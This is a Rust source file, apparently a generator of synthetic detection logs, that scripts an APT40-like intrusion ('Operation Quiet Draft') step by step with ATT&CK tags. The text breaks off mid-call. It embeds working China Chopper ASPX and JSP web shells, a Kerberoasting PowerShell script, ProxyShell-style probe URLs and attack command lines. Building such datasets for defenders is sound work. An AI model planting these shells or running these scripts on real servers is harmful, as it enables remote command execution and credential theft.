//! "Operation Quiet Draft": the APT40-like storyline of research file section 4.1.
//!
//! Why written out step by step: each step uses the exact command lines, paths, accounts and
//! addresses of the research file, and tags every record it writes with its truth step, so
//! `truth.json` lists the complete evidence of every step. All operator actions fall inside
//! 01:00–09:30 UTC, Monday to Friday (UTC+8 office hours). The China-Chopper-style web shell
//! wraps every command as `cmd /c "cd /d <dir>&<command>&echo [S]&cd&echo [E]"`; after the
//! privilege escalation (day 2) commands run as SYSTEM through `C:\Windows\Debug\wmsvc.exe`.

use chrono::{DateTime, Duration, Utc};

use crate::clock::{ms, secs, utc};
use crate::rng::Rng;
use crate::sink::{Sink, Tag};
use crate::syslog;
use crate::truth::Plan;
use crate::w3c::{Req, iis, tomcat};
use crate::winlog::{self as wl, Channel, Logon, Proc};
use crate::zeek::{self, Conn};

const WEB: &str = "PDO-WEB01";
const WEB_IP: &str = "172.16.10.21";
const ACTOR: &str = "203.0.113.45";
const ACTOR2: &str = "198.51.100.23";
const RECON: &str = "192.0.2.66";
const UA: &str = "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 Safari/537.36";
const W3WP: &str = "C:\\Windows\\System32\\inetsrv\\w3wp.exe";
const CMD: &str = "C:\\Windows\\System32\\cmd.exe";
const POOL: &str = "IIS APPPOOL\\DraftsPortal";
const SYSTEM: &str = "NT AUTHORITY\\SYSTEM";
const THUMBS: &str = "C:\\inetpub\\wwwroot\\drafts\\Images\\thumbs\\";
const SHELL1: &str = "/drafts/Images/thumbs/spinner.aspx";
const SHELL2: &str = "/drafts/App_Themes/Default/ErrorPage.aspx";
const WMSVC: &str = "C:\\Windows\\Debug\\wmsvc.exe";

/// The w3wp command line of the Drafts Portal application pool.
const W3WP_CMD: &str = "c:\\windows\\system32\\inetsrv\\w3wp.exe -ap \"DraftsPortal\" -v \"v4.0\" -l \"webengine4.dll\" -a \\\\.\\pipe\\iisipm5b3c2a1e-7d4f-4e0a-9a55-2f1c1f0b6d21 -h \"C:\\inetpub\\temp\\apppools\\DraftsPortal\\DraftsPortal.config\" -w \"\" -m 0 -t 20 -ta 0";

/// The web shell dropped on day 0 (China Chopper one-liner).
const SPINNER_ASPX: &str =
    "<%@ Page Language=\"Jscript\"%><%eval(Request.Item[\"z9\"],\"unsafe\");%>\r\n";
/// The second web shell (China Chopper variant with a decoy comment).
const ERRORPAGE_ASPX: &str = "<%@ Page Language=\"Jscript\" Debug=\"false\"%>\r\n<html><head><title>Runtime Error</title></head><body><h2>Server Error in '/drafts' Application.</h2>\r\n<%eval(Request.Item[\"__VIEWSTATEX\"],\"unsafe\");%>\r\n</body></html>\r\n";
/// The JSP shell on the remote-access gateway.
const SKIN_DARK_JSP: &str = r#"<%@ page import="java.io.*" %><%
String c = request.getParameter("cmd");
String f = request.getParameter("f");
if (c != null) {
    Process p = Runtime.getRuntime().exec(new String[]{"/bin/sh", "-c", c});
    BufferedReader br = new BufferedReader(new InputStreamReader(p.getInputStream()));
    String l; while ((l = br.readLine()) != null) { out.println(l); }
} else if (f != null) {
    BufferedReader br = new BufferedReader(new FileReader(application.getRealPath("/") + f));
    String l; while ((l = br.readLine()) != null) { out.println(l); }
}
%>
"#;

/// The tag of each step, in order S01…
struct Steps {
    t: Vec<Tag>,
}

impl Steps {
    fn declare(plan: &mut Plan) -> Self {
        let defs: &[(&str, &[&str], &str, &str)] = &[
            (
                "ProxyShell-style probes of PDO-EXCH01 from a leased VPS",
                &["T1595.002"],
                "reconnaissance",
                "PDO-EXCH01",
            ),
            (
                "Drafts Portal enumeration from the NZ SOHO last hop",
                &["T1595.002", "T1594"],
                "reconnaissance",
                WEB,
            ),
            (
                "Path-traversal upload through Upload.ashx drops spinner.aspx",
                &["T1190"],
                "initial-access",
                WEB,
            ),
            (
                "China Chopper web shell spinner.aspx tested",
                &["T1505.003", "T1059.003"],
                "persistence",
                WEB,
            ),
            (
                "Host and domain enumeration through the web shell",
                &[
                    "T1082",
                    "T1016",
                    "T1033",
                    "T1087.002",
                    "T1069.002",
                    "T1018",
                    "T1482",
                    "T1615",
                    "T1049",
                    "T1057",
                ],
                "discovery",
                WEB,
            ),
            (
                "Second web shell ErrorPage.aspx (timestomped) and daily keep-alives",
                &["T1505.003", "T1070.006"],
                "persistence",
                WEB,
            ),
            (
                "Credentials from web.config and application binaries",
                &["T1552.001"],
                "credential-access",
                WEB,
            ),
            (
                "Privilege escalation with a potato-style exploit C:\\Windows\\Debug\\wmsvc.exe",
                &["T1068", "T1134.001"],
                "privilege-escalation",
                WEB,
            ),
            (
                "Kerberoasting of service accounts as svc_draftsweb",
                &["T1558.003", "T1059.001"],
                "credential-access",
                "PDO-DC01",
            ),
            (
                "Ping sweep and share discovery of 10.20.0.0/24",
                &["T1046", "T1135", "T1018"],
                "discovery",
                WEB,
            ),
            (
                "SMB to PDO-FS01 with the cracked svc_sqlrpt (NTLM from the DMZ)",
                &["T1078.002", "T1021.002"],
                "lateral-movement",
                "PDO-FS01",
            ),
            (
                "WMI remote execution on PDO-SQL01 and database collection",
                &["T1047", "T1213.006"],
                "execution",
                "PDO-SQL01",
            ),
            (
                "BMS credentials from site.xml on PDO-BMS01",
                &["T1552.001", "T1213.006"],
                "credential-access",
                "PDO-BMS01",
            ),
            (
                "Tunnel wiadbg.exe, firewall rule for 9998-9999 and tunnel service",
                &["T1572", "T1090", "T1562.004", "T1543.003"],
                "command-and-control",
                WEB,
            ),
            (
                "LSASS dump on PDO-FS01 with renamed ProcDump via a remote scheduled task",
                &["T1003.001", "T1053.005", "T1570"],
                "credential-access",
                "PDO-FS01",
            ),
            (
                "LSASS dump exfiltrated through the web root (t1.dat)",
                &["T1041", "T1070.004"],
                "exfiltration",
                WEB,
            ),
            (
                "LSASS MiniDump through comsvcs.dll on PDO-SQL01",
                &["T1003.001", "T1047"],
                "credential-access",
                "PDO-SQL01",
            ),
            (
                "RDP into PDO-JMP01 from the DMZ with the Domain Admin",
                &["T1078.002", "T1021.001"],
                "lateral-movement",
                "PDO-JMP01",
            ),
            (
                "AD database copy with ntdsutil IFM on PDO-DC01",
                &["T1003.003"],
                "credential-access",
                "PDO-DC01",
            ),
            (
                "Collection from file shares and RAR staging in C:\\PerfLogs",
                &["T1039", "T1005", "T1074.001", "T1560.001", "T1036.003"],
                "collection",
                "PDO-JMP01",
            ),
            (
                "Network information for re-entry and trust probe of lsa.example",
                &["T1482", "T1016", "T1135"],
                "discovery",
                "PDO-JMP01",
            ),
            (
                "Remote-access gateway exploited: Log4Shell probe, JSP and in-memory shells, local root",
                &["T1190", "T1505.003", "T1068"],
                "initial-access",
                "PDO-RAG01",
            ),
            (
                "Credential capture on the gateway and session reuse",
                &["T1056", "T1111", "T1528", "T1074.001"],
                "credential-access",
                "PDO-RAG01",
            ),
            (
                "SSH brute force from the gateway to PDO-BKP01",
                &["T1110.001", "T1021.004"],
                "credential-access",
                "PDO-BKP01",
            ),
            (
                "Exfiltration of q1.partNN.rar through the web root and the tunnel",
                &["T1041", "T1048", "T1021.002"],
                "exfiltration",
                WEB,
            ),
            (
                "Clean-up of staging and exfiltration files",
                &["T1070.004"],
                "defense-evasion",
                "PDO-JMP01",
            ),
        ];
        let t = defs
            .iter()
            .enumerate()
            .map(|(i, (name, tech, tactic, host))| {
                plan.step(&format!("S{:02}", i + 1), name, tech, tactic, host)
            })
            .collect();
        Steps { t }
    }

    /// The tag of step `n` (1-based).
    fn s(&self, n: usize) -> Tag {
        self.t[n - 1]
    }
}

/// The actor's tooling: web-shell requests and the process chains they create.
struct Op<'a> {
    s: &'a mut Sink,
    r: Rng,
}

impl Op<'_> {
    /// A POST to a web shell (IIS line and the sensor's connection record).
    fn post(&mut self, t: DateTime<Utc>, stem: &str, sc: u64, cs: u64, tag: Tag) {
        let taken = 20 + sc / 400 + self.r.below(40);
        iis(
            self.s,
            WEB,
            WEB_IP,
            t,
            &Req {
                method: "POST",
                stem,
                query: "",
                user: "",
                client: ACTOR,
                ua: UA,
                referer: "",
                status: 200,
                sc_bytes: sc,
                cs_bytes: cs,
                taken,
            },
            tag,
        );
        let r = &mut self.r;
        let p = r.range(49152, 65000) as u16;
        zeek::conn(
            self.s,
            t - ms(120),
            &Conn {
                orig: ACTOR,
                orig_p: p,
                resp: WEB_IP,
                resp_p: 443,
                proto: "tcp",
                service: "ssl",
                duration: 0.2 + taken as f64 / 1000.0,
                orig_bytes: cs + 900,
                resp_bytes: sc + 4200,
                state: "SF",
            },
            tag,
        );
    }

    /// A command through the China Chopper shell as the application pool; `tool` is the
    /// process `cmd.exe` starts (image, command line), if the command is not a builtin.
    fn chopper(
        &mut self,
        t: DateTime<Utc>,
        command: &str,
        tool: Option<(&str, &str)>,
        sc: u64,
        tag: Tag,
    ) {
        self.post(t, SHELL1, sc, 1380 + command.len() as u64 * 2, tag);
        let wrapped = format!("cmd /c \"cd /d {THUMBS}&{command}&echo [S]&cd&echo [E]\"");
        let t1 = t + ms(60 + self.r.range(0, 200));
        wl::process(
            self.s,
            &mut self.r,
            WEB,
            t1,
            &Proc::new(CMD, &wrapped, W3WP, W3WP_CMD, POOL)
                .integrity("High")
                .cwd(THUMBS),
            tag,
        );
        if let Some((img, cl)) = tool {
            let t2 = t1 + ms(30 + self.r.range(0, 100));
            wl::process(
                self.s,
                &mut self.r,
                WEB,
                t2,
                &Proc::new(img, cl, CMD, &wrapped, POOL)
                    .integrity("High")
                    .cwd(THUMBS),
                tag,
            );
        }
    }

    /// A command run as SYSTEM through the potato exploit (after day 2).
    fn system(
        &mut self,
        t: DateTime<Utc>,
        command: &str,
        tool: Option<(&str, &str)>,
        sc: u64,
        tag: Tag,
    ) {
        self.post(t, SHELL1, sc, 1500 + command.len() as u64 * 2, tag);
        let inner = format!("cmd /c {command}");
        let wrapped = format!("cmd /c \"cd /d {THUMBS}&{WMSVC} \"{inner}\"&echo [S]&cd&echo [E]\"");
        let t1 = t + ms(60 + self.r.range(0, 200));
        wl::process(
            self.s,
            &mut self.r,
            WEB,
            t1,
            &Proc::new(CMD, &wrapped, W3WP, W3WP_CMD, POOL)
                .integrity("High")
                .cwd(THUMBS),
            tag,
        );
        let wm_cmd = format!("{WMSVC} \"{inner}\"");
        let t2 = t1 + ms(40);
        wl::process(
            self.s,
            &mut self.r,
            WEB,
            t2,
            &Proc::new(WMSVC, &wm_cmd, CMD, &wrapped, POOL)
                .integrity("High")
                .cwd(THUMBS),
            tag,
        );
        let t3 = t2 + ms(180);
        wl::process(
            self.s,
            &mut self.r,
            WEB,
            t3,
            &Proc::new(CMD, &inner, WMSVC, &wm_cmd, SYSTEM).cwd(THUMBS),
            tag,
        );
        if let Some((img, cl)) = tool {
            wl::process(
                self.s,
                &mut self.r,
                WEB,
                t3 + ms(45),
                &Proc::new(img, cl, CMD, &inner, SYSTEM).cwd(THUMBS),
                tag,
            );
        }
    }
}

fn sys32(exe: &str) -> String {
    format!("C:\\Windows\\System32\\{exe}")
}

/// Writes the storyline.
pub(crate) fn generate(s: &mut Sink, plan: &mut Plan, seed: u64) {
    let st = Steps::declare(plan);
    let mut op = Op {
        s,
        r: Rng::derive(seed, "apt40"),
    };
    recon(&mut op, &st);
    day0(&mut op, &st);
    days1_2(&mut op, &st);
    week2(&mut op, &st);
    credentials(&mut op, &st);
    jump_host(&mut op, &st);
    gateway(&mut op, &st);
    exfil(&mut op, &st);
}

fn recon(op: &mut Op, st: &Steps) {
    // S01: ProxyShell-style probes from the VPS, all failing.
    let tag = st.s(1);
    let probes = [
        (
            "GET",
            "/autodiscover/autodiscover.json",
            "@evil.example/mapi/nspi/?&Email=autodiscover/autodiscover.json%3F@evil.example",
            400,
        ),
        (
            "GET",
            "/autodiscover/autodiscover.json",
            "@evil.example/owa/?&Email=autodiscover/autodiscover.json%3F@evil.example",
            400,
        ),
        (
            "POST",
            "/autodiscover/autodiscover.json",
            "@evil.example/powershell/?X-Rps-CAT=&Email=autodiscover/autodiscover.json%3F@evil.example",
            401,
        ),
        ("GET", "/owa/auth/logon.aspx", "", 200),
        ("GET", "/ecp/", "", 302),
        ("GET", "/EWS/Exchange.asmx", "", 401),
        (
            "GET",
            "/owa/auth/15.2.1544/themes/resources/favicon.ico",
            "",
            200,
        ),
    ];
    for (day, hh) in [("2025-02-24", 2), ("2025-02-25", 3), ("2025-02-26", 6)] {
        let mut t = utc(&format!("{day} {hh:02}:11:07"));
        for (m, stem, q, status) in probes {
            iis(
                op.s,
                "PDO-EXCH01",
                "10.20.0.40",
                t,
                &Req {
                    method: m,
                    stem,
                    query: q,
                    user: "",
                    client: RECON,
                    ua: "Mozilla/5.0 (Windows NT 10.0; Win64; x64)",
                    referer: "",
                    status,
                    sc_bytes: 1245,
                    cs_bytes: 402,
                    taken: 15,
                },
                tag,
            );
            t += secs(op.r.range(4, 40));
        }
        let r = &mut op.r;
        let p = r.range(40000, 65000) as u16;
        zeek::conn(
            op.s,
            utc(&format!("{day} {hh:02}:11:06")),
            &Conn {
                orig: RECON,
                orig_p: p,
                resp: "10.20.0.40",
                resp_p: 443,
                proto: "tcp",
                service: "ssl",
                duration: 180.0,
                orig_bytes: 9800,
                resp_bytes: 16_000,
                state: "SF",
            },
            tag,
        );
    }

    // S02: low-rate enumeration of the Drafts Portal.
    let tag = st.s(2);
    let pages = [
        ("GET", "/drafts/", "", 200, 16_220),
        ("GET", "/drafts/api/help", "", 200, 18_311),
        ("GET", "/drafts/Attachments/Upload.ashx", "", 405, 1290),
        ("GET", "/drafts/api/bills", "page=1", 200, 9_412),
        ("GET", "/drafts/Bills/View.aspx", "id=1201", 200, 61_200),
        ("OPTIONS", "/drafts/Attachments/Upload.ashx", "", 200, 310),
        ("GET", "/drafts/web.config", "", 404, 1245),
        ("GET", "/drafts/App_Themes/Default/", "", 403, 1233),
        ("GET", "/drafts/Images/thumbs/", "", 403, 1233),
        ("GET", "/drafts/api/help/Attachments", "", 200, 4_810),
    ];
    for (day, start) in [
        ("2025-02-27", "02:02:13"),
        ("2025-02-28", "05:48:20"),
        ("2025-03-03", "01:50:02"),
    ] {
        let mut t = utc(&format!("{day} {start}"));
        for (i, (m, stem, q, status, sc)) in pages.iter().enumerate() {
            if day == "2025-03-03" && i > 2 {
                break;
            }
            iis(
                op.s,
                WEB,
                WEB_IP,
                t,
                &Req {
                    method: m,
                    stem,
                    query: q,
                    user: "",
                    client: ACTOR,
                    ua: UA,
                    referer: "",
                    status: *status,
                    sc_bytes: *sc,
                    cs_bytes: 498 + op.r.below(30),
                    taken: 4 + op.r.below(60),
                },
                tag,
            );
            t += secs(op.r.range(20, 75));
        }
        let r = &mut op.r;
        let p = r.range(40000, 65000) as u16;
        zeek::conn(
            op.s,
            utc(&format!("{day} {start}")) - ms(300),
            &Conn {
                orig: ACTOR,
                orig_p: p,
                resp: WEB_IP,
                resp_p: 443,
                proto: "tcp",
                service: "ssl",
                duration: 420.0,
                orig_bytes: 6400,
                resp_bytes: 130_000,
                state: "SF",
            },
            tag,
        );
    }
    // The exact lines of the research file.
    iis(
        op.s,
        WEB,
        WEB_IP,
        utc("2025-03-03 01:52:40"),
        &Req {
            method: "GET",
            stem: "/drafts/api/help",
            query: "",
            user: "",
            client: ACTOR,
            ua: UA,
            referer: "",
            status: 200,
            sc_bytes: 18311,
            cs_bytes: 512,
            taken: 46,
        },
        tag,
    );
    iis(
        op.s,
        WEB,
        WEB_IP,
        utc("2025-03-03 01:53:02"),
        &Req {
            method: "GET",
            stem: "/drafts/Attachments/Upload.ashx",
            query: "",
            user: "",
            client: ACTOR,
            ua: UA,
            referer: "",
            status: 405,
            sc_bytes: 1290,
            cs_bytes: 498,
            taken: 4,
        },
        tag,
    );
}

fn day0(op: &mut Op, st: &Steps) {
    // S03: the upload.
    let tag = st.s(3);
    let t = utc("2025-03-03 02:31:44");
    iis(
        op.s,
        WEB,
        WEB_IP,
        t,
        &Req {
            method: "POST",
            stem: "/drafts/Attachments/Upload.ashx",
            query: "folder=..%2F..%2FImages%2Fthumbs",
            user: "",
            client: ACTOR,
            ua: UA,
            referer: "",
            status: 200,
            sc_bytes: 412,
            cs_bytes: 3120,
            taken: 93,
        },
        tag,
    );
    let r = &mut op.r;
    let p = r.range(40000, 65000) as u16;
    zeek::conn(
        op.s,
        t - ms(150),
        &Conn {
            orig: ACTOR,
            orig_p: p,
            resp: WEB_IP,
            resp_p: 443,
            proto: "tcp",
            service: "ssl",
            duration: 0.4,
            orig_bytes: 4100,
            resp_bytes: 4600,
            state: "SF",
        },
        tag,
    );
    wl::file_create(
        op.s,
        &mut op.r,
        WEB,
        t + ms(70),
        W3WP,
        "C:\\inetpub\\wwwroot\\drafts\\Images\\thumbs\\spinner.aspx",
        POOL,
        tag,
    );

    // S04: the shell is tested.
    let tag = st.s(4);
    op.s.raw(
        "hosts/PDO-WEB01/wwwroot/drafts/Images/thumbs/spinner.aspx".into(),
        WEB,
        t + ms(70),
        SPINNER_ASPX.as_bytes(),
        tag,
    );
    let t = utc("2025-03-03 02:33:10");
    iis(
        op.s,
        WEB,
        WEB_IP,
        t,
        &Req {
            method: "POST",
            stem: SHELL1,
            query: "",
            user: "",
            client: ACTOR,
            ua: UA,
            referer: "",
            status: 200,
            sc_bytes: 655,
            cs_bytes: 1380,
            taken: 31,
        },
        tag,
    );
    let wrapped = format!("cmd /c \"cd /d {THUMBS}&whoami&echo [S]&cd&echo [E]\"");
    wl::process(
        op.s,
        &mut op.r,
        WEB,
        t + ms(123),
        &Proc::new(CMD, &wrapped, W3WP, W3WP_CMD, POOL)
            .integrity("High")
            .cwd(THUMBS),
        tag,
    );
    wl::process(
        op.s,
        &mut op.r,
        WEB,
        t + ms(170),
        &Proc::new(&sys32("whoami.exe"), "whoami", CMD, &wrapped, POOL)
            .integrity("High")
            .cwd(THUMBS),
        tag,
    );

    // S05: enumeration, 20-90 s apart.
    let tag = st.s(5);
    let cmds: &[(&str, &str, u64)] = &[
        ("ipconfig /all", "ipconfig.exe", 3_800),
        ("systeminfo", "systeminfo.exe", 4_900),
        ("tasklist /v", "tasklist.exe", 18_200),
        ("netstat -ano", "NETSTAT.EXE", 9_600),
        ("whoami /priv", "whoami.exe", 2_100),
        ("net user /domain", "net.exe", 3_300),
        ("net group \"Domain Admins\" /domain", "net.exe", 1_100),
        ("nltest /dclist:pdo.example", "nltest.exe", 900),
        ("nltest /domain_trusts", "nltest.exe", 1_050),
        ("gpresult /r", "gpresult.exe", 6_700),
    ];
    let mut t = utc("2025-03-03 02:40:12");
    for (c, exe, sc) in cmds {
        op.chopper(t, c, Some((&sys32(exe), c)), *sc, tag);
        if exe.eq_ignore_ascii_case("net.exe") {
            // net.exe hands over to net1.exe.
            let net1 = format!("C:\\Windows\\system32\\net1 {}", &c[4..]);
            wl::process(
                op.s,
                &mut op.r,
                WEB,
                t + ms(400),
                &Proc::new(&sys32("net1.exe"), &net1, &sys32("net.exe"), c, POOL)
                    .integrity("High")
                    .cwd(THUMBS),
                tag,
            );
        }
        t += secs(op.r.range(20, 90));
    }
    let mut t = utc("2025-03-03 03:08:40");
    for (c, exe, sc) in [
        ("quser", "quser.exe", 300u64),
        ("dir C:\\inetpub\\wwwroot\\drafts", "", 2_400),
        ("type C:\\inetpub\\wwwroot\\drafts\\Global.asax", "", 900),
    ] {
        let tool = if exe.is_empty() {
            None
        } else {
            Some((sys32(exe), c.to_string()))
        };
        op.chopper(
            t,
            c,
            tool.as_ref().map(|(a, b)| (a.as_str(), b.as_str())),
            sc,
            tag,
        );
        t += secs(op.r.range(20, 90));
    }
    // DC-side trace of the domain queries.
    let r = &mut op.r;
    let p = r.range(49152, 65000) as u16;
    zeek::conn(
        op.s,
        utc("2025-03-03 02:44:30"),
        &Conn {
            orig: WEB_IP,
            orig_p: p,
            resp: "10.20.0.10",
            resp_p: 445,
            proto: "tcp",
            service: "smb,dce_rpc",
            duration: 1.2,
            orig_bytes: 3800,
            resp_bytes: 9100,
            state: "SF",
        },
        tag,
    );

    // S06: second web shell, timestomped.
    let tag = st.s(6);
    let t = utc("2025-03-03 03:05:21");
    op.post(t, SHELL1, 220, 2860, tag);
    let target = "C:\\inetpub\\wwwroot\\drafts\\App_Themes\\Default\\ErrorPage.aspx";
    wl::file_create(op.s, &mut op.r, WEB, t + ms(60), W3WP, target, POOL, tag);
    let r = &mut op.r;
    wl::event(
        op.s,
        WEB,
        Channel::Sysmon,
        t + ms(90),
        2,
        vec![
            ("RuleName", "-".into()),
            (
                "UtcTime",
                (t + ms(90)).format("%Y-%m-%d %H:%M:%S%.3f").to_string(),
            ),
            (
                "ProcessGuid",
                format!(
                    "{{8F2B6C1A-{}-0000-0000-000000000000}}",
                    r.hex(4).to_uppercase()
                ),
            ),
            ("ProcessId", "5412".into()),
            ("Image", W3WP.into()),
            ("TargetFilename", target.into()),
            ("CreationUtcTime", "2023-08-14 04:12:55.000".into()),
            (
                "PreviousCreationUtcTime",
                (t + ms(60)).format("%Y-%m-%d %H:%M:%S%.3f").to_string(),
            ),
            ("User", POOL.into()),
        ],
        tag,
    );
    op.s.raw(
        "hosts/PDO-WEB01/wwwroot/drafts/App_Themes/Default/ErrorPage.aspx".into(),
        WEB,
        t,
        ERRORPAGE_ASPX.as_bytes(),
        tag,
    );
    let t = utc("2025-03-03 03:07:02");
    iis(
        op.s,
        WEB,
        WEB_IP,
        t,
        &Req {
            method: "POST",
            stem: SHELL2,
            query: "",
            user: "",
            client: ACTOR,
            ua: UA,
            referer: "",
            status: 200,
            sc_bytes: 610,
            cs_bytes: 1420,
            taken: 28,
        },
        tag,
    );
    // Keep-alives on the following weekdays, about 02:00 UTC.
    for day in ["2025-03-06", "2025-03-07"] {
        let t = utc(&format!("{day} 02:00:00")) + secs(op.r.range(0, 600));
        op.post(t, SHELL1, 640, 1380, tag);
        let d = secs(op.r.range(5, 40));
        op.post(t + d, SHELL2, 610, 1420, tag);
    }
}

fn days1_2(op: &mut Op, st: &Steps) {
    // S07: credentials in files.
    let tag = st.s(7);
    let regiis = "C:\\Windows\\Microsoft.NET\\Framework64\\v4.0.30319\\aspnet_regiis.exe";
    let c1 = format!("{regiis} -pdf \"connectionStrings\" C:\\inetpub\\wwwroot\\drafts");
    op.chopper(
        utc("2025-03-04 01:31:05"),
        &c1,
        Some((regiis, &c1)),
        1_900,
        tag,
    );
    op.chopper(
        utc("2025-03-04 01:33:40"),
        "type C:\\inetpub\\wwwroot\\drafts\\web.config",
        None,
        14_300,
        tag,
    );
    let fs = "findstr /i \"password pwd\" C:\\inetpub\\wwwroot\\drafts\\bin\\*.dll";
    op.chopper(
        utc("2025-03-04 01:41:12"),
        fs,
        Some((&sys32("findstr.exe"), fs)),
        8_800,
        tag,
    );
    let mut t = utc("2025-03-04 01:52:00");
    for _ in 0..9 {
        let sc = op.r.range(4_000, 90_000) as u64;
        op.post(t, SHELL1, sc, 1_600, tag);
        t += secs(op.r.range(40, 140));
    }

    // S08: privilege escalation.
    let tag = st.s(8);
    let t = utc("2025-03-05 01:45:30");
    op.post(t, SHELL1, 380, 61_400, tag);
    wl::file_create(op.s, &mut op.r, WEB, t + ms(80), W3WP, WMSVC, POOL, tag);
    let t = utc("2025-03-05 01:47:02");
    let probe = format!("{WMSVC} \"cmd /c whoami\"");
    op.post(t, SHELL1, 700, 1_700, tag);
    let wrapped = format!("cmd /c \"cd /d {THUMBS}&{probe}&echo [S]&cd&echo [E]\"");
    wl::process(
        op.s,
        &mut op.r,
        WEB,
        t + ms(90),
        &Proc::new(CMD, &wrapped, W3WP, W3WP_CMD, POOL)
            .integrity("High")
            .cwd(THUMBS),
        tag,
    );
    wl::process(
        op.s,
        &mut op.r,
        WEB,
        t + ms(140),
        &Proc::new(WMSVC, &probe, CMD, &wrapped, POOL)
            .integrity("High")
            .cwd(THUMBS),
        tag,
    );
    wl::process(
        op.s,
        &mut op.r,
        WEB,
        t + ms(330),
        &Proc::new(CMD, "cmd /c whoami", WMSVC, &probe, SYSTEM).cwd(THUMBS),
        tag,
    );
    wl::process(
        op.s,
        &mut op.r,
        WEB,
        t + ms(380),
        &Proc::new(&sys32("whoami.exe"), "whoami", CMD, "cmd /c whoami", SYSTEM).cwd(THUMBS),
        tag,
    );

    // S09: Kerberoasting.
    let tag = st.s(9);
    let t = utc("2025-03-05 02:05:11");
    let ps = "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe";
    let pscmd = "powershell.exe -nop -ep bypass -f C:\\Windows\\Debug\\kr.ps1";
    op.system(t - secs(2), pscmd, Some((ps, pscmd)), 5_200, tag);
    let script = "$pw = ConvertTo-SecureString $env:DWP -AsPlainText -Force\n$cred = New-Object System.Management.Automation.PSCredential('PDO\\svc_draftsweb', $pw)\nAdd-Type -AssemblyName System.IdentityModel\n$ds = New-Object System.DirectoryServices.DirectorySearcher([ADSI]'LDAP://DC=pdo,DC=example')\n$ds.Filter = '(&(samAccountType=805306368)(servicePrincipalName=*))'\n$ds.PageSize = 500\nforeach ($r in $ds.FindAll()) {\n  foreach ($spn in $r.Properties['serviceprincipalname']) {\n    $t = New-Object System.IdentityModel.Tokens.KerberosRequestorSecurityToken -ArgumentList $spn\n    $b = $t.GetRequest()\n    [IO.File]::AppendAllText('C:\\Windows\\Debug\\k.txt', ($spn + ':' + [Convert]::ToBase64String($b) + \"`n\"))\n  }\n}";
    wl::script_block(
        op.s,
        &mut op.r,
        WEB,
        t,
        script,
        "C:\\Windows\\Debug\\kr.ps1",
        "S-1-5-18",
        tag,
    );
    wl::tgt(
        op.s,
        "PDO-DC01",
        t + ms(400),
        "svc_draftsweb",
        "PDO.EXAMPLE",
        WEB_IP,
        "0x12",
        tag,
    );
    let mut tt = t + ms(900);
    for svc in [
        "svc_sqlrpt",
        "svc_backup",
        "svc_bmsdb",
        "HTTP-sharepoint",
        "svc_reporting",
        "svc_sccm",
        "svc_vulnscan",
    ] {
        wl::tgs(
            op.s,
            "PDO-DC01",
            tt,
            "svc_draftsweb@PDO.EXAMPLE",
            svc,
            WEB_IP,
            "0x17",
            "0x40810000",
            tag,
        );
        tt += ms(op.r.range(250, 550));
    }
    let r = &mut op.r;
    for port in [389u16, 88] {
        let p = r.range(49152, 65000) as u16;
        zeek::conn(
            op.s,
            t + ms(300),
            &Conn {
                orig: WEB_IP,
                orig_p: p,
                resp: "10.20.0.10",
                resp_p: port,
                proto: "tcp",
                service: if port == 88 { "krb_tcp" } else { "ldap" },
                duration: 3.6,
                orig_bytes: 9_000,
                resp_bytes: 31_000,
                state: "SF",
            },
            tag,
        );
    }
    wl::file_create(
        op.s,
        &mut op.r,
        WEB,
        t + secs(4),
        ps,
        "C:\\Windows\\Debug\\k.txt",
        SYSTEM,
        tag,
    );
    op.system(
        t + secs(95),
        "type C:\\Windows\\Debug\\k.txt",
        None,
        21_000,
        tag,
    );
}

fn week2(op: &mut Op, st: &Steps) {
    // S10: ping sweep and share discovery.
    let tag = st.s(10);
    let t0 = utc("2025-03-10 01:35:20");
    let sweep = "for /L %i in (1,1,254) do @ping -n 1 -w 80 10.20.0.%i | find \"TTL=\"";
    op.system(t0, sweep, None, 1_400, tag);
    let live: Vec<String> = crate::net::ENV
        .hosts
        .iter()
        .filter(|h| h.ip.starts_with("10.20.0."))
        .map(|h| h.ip.clone())
        .collect();
    for i in 1..=254 {
        let t = t0 + ms(400 + i * 95);
        let ip = format!("10.20.0.{i}");
        let cl = format!("ping  -n 1 -w 80 10.20.0.{i}");
        wl::process(
            op.s,
            &mut op.r,
            WEB,
            t,
            &Proc::new(
                &sys32("PING.EXE"),
                &cl,
                CMD,
                &format!("cmd /c {sweep}"),
                SYSTEM,
            ),
            tag,
        );
        let up = live.contains(&ip) || ip == "10.20.0.1" || ip == "10.20.0.5";
        zeek::conn(
            op.s,
            t + ms(5),
            &Conn {
                orig: WEB_IP,
                orig_p: 8,
                resp: &ip,
                resp_p: 0,
                proto: "icmp",
                service: "",
                duration: if up { 0.001 } else { 0.0 },
                orig_bytes: 32,
                resp_bytes: if up { 32 } else { 0 },
                state: "OTH",
            },
            tag,
        );
    }
    // SYNs to 445 and 3389 across the subnet in about six minutes.
    let t1 = t0 + secs(60);
    for i in 0..250i64 {
        let host = 1 + (i / 2) % 254;
        let ip = format!("10.20.0.{host}");
        let port = if i % 2 == 0 { 445 } else { 3389 };
        let up = live.contains(&ip);
        let r = &mut op.r;
        let p = r.range(49152, 65000) as u16;
        zeek::conn(
            op.s,
            t1 + ms(i * 1_400),
            &Conn {
                orig: WEB_IP,
                orig_p: p,
                resp: &ip,
                resp_p: port,
                proto: "tcp",
                service: "",
                duration: 0.001,
                orig_bytes: 0,
                resp_bytes: 0,
                state: if up { "REJ" } else { "S0" },
            },
            tag,
        );
    }
    let t = t0 + secs(470);
    for (c, sc) in [
        ("net view \\\\PDO-FS01 /all", 1_200u64),
        ("net view \\\\PDO-SQL01", 700),
    ] {
        let tt = t + secs(op.r.range(0, 60));
        op.system(tt, c, Some((&sys32("net.exe"), c)), sc, tag);
        let host = if c.contains("FS01") {
            "PDO-FS01"
        } else {
            "PDO-SQL01"
        };
        wl::share(
            op.s,
            host,
            tt + ms(700),
            5140,
            "PDO-WEB01$",
            "PDO",
            WEB_IP,
            "\\\\*\\IPC$",
            "",
            "",
            "0x1",
            tag,
        );
    }

    // S11: SMB to FS01 with svc_sqlrpt.
    let tag = st.s(11);
    let t = utc("2025-03-10 02:12:05");
    let c = "net use \\\\PDO-FS01\\C$ /user:PDO\\svc_sqlrpt ********";
    op.system(t, c, Some((&sys32("net.exe"), c)), 120, tag);
    ntlm_logon(op, "PDO-FS01", t + ms(700), "svc_sqlrpt", tag, true);
    wl::share(
        op.s,
        "PDO-FS01",
        t + ms(760),
        5140,
